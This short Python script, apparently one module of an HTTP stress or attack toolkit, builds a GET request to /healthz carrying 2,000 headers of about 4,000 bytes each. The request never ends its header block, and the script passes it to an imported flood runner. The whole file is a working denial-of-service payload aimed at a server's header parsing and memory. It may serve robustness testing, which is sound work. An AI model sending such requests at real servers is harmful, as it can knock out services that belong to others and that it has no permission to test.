"""Sends headers without an end."""

from attacks.flood import Part, main

HEADERS = b"".join(b"X-%06d: %s\r\n" % (number, b"y" * 4_000) for number in range(2_000))
WHOLE = b"GET /healthz HTTP/1.1\r\nHost: a\r\n" + HEADERS


def parts() -> list[Part]:
    return [WHOLE]


if __name__ == "__main__":
    main(parts)
